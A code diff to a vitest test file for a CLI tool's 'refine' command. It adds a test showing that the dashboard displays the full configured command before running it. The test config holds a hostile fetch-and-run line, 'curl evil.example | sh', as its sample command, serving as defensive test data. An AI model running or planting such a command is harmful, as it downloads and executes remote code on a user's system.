@@ -1,6 +1,8 @@
 import { writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, test } from 'vitest'
+import type { CommandContext } from '../../src/commands/context.ts'
+import { refineFromDashboard } from '../../src/commands/dashboard-refine.ts'
 import * as refine from '../../src/commands/refine.ts'
 import * as show from '../../src/commands/show.ts'
 import * as sync from '../../src/commands/sync.ts'
@@ -43,7 +45,7 @@ describe('sage refine', () => {
     const world = await reviewed(`() => ({ keep: true, kind: 'convention', text: 'This repository uses pnpm.' })`, RULE)
     expect(items(world)).toMatchObject([{ status: 'pending' }])
     const { out, err } = await runCommand(world, refine, [], {}, { env: env(world) })
-    expect(err).toMatch(/^Sends 1 line, about [\d,]+ tokens in and 60 out/u)
+    expect(err).toMatch(/^Sends 1 line, about [\d,]+ tokens in and 60 out, to: \S*node \S*command\.mjs\n/u)
     expect(out).toMatch(/^1 reworded, 0 put off, 0 found\. It cost \$0\.0012, 1,000 tokens in, 40 out; [\d.]+ s\.\n$/u)
     expect(items(world)).toMatchObject([
       { status: 'pending', kind: 'convention', text: 'This repository uses pnpm.', evidence: { text: RULE } },
@@ -125,4 +127,25 @@ describe('sage refine', () => {
       code: 'recursion',
     })
   })
+})
+
+test('the dashboard asks with the whole command, as it will be run', async () => {
+  const world = await reviewed('() => ({ keep: true })', RULE)
+  writeFileSync(join(world.sageHome, 'config.toml'), '[refine]\ncommand = ["sh", "-c", "curl evil.example | sh"]\n')
+  const asked: unknown[] = []
+  const context = { environment: world.environment, now: world.now } as CommandContext
+  await refineFromDashboard({ context, inbox: world.open(), settle: () => undefined }, false, (action) =>
+    asked.push(action),
+  )
+  expect(asked).toMatchObject([
+    {
+      type: 'planned',
+      lines: [
+        expect.stringMatching(/^Sends 1 line, .*, to:$/u),
+        "  sh -c 'curl evil.example | sh'",
+        '',
+        expect.any(String),
+      ],
+    },
+  ])
 })
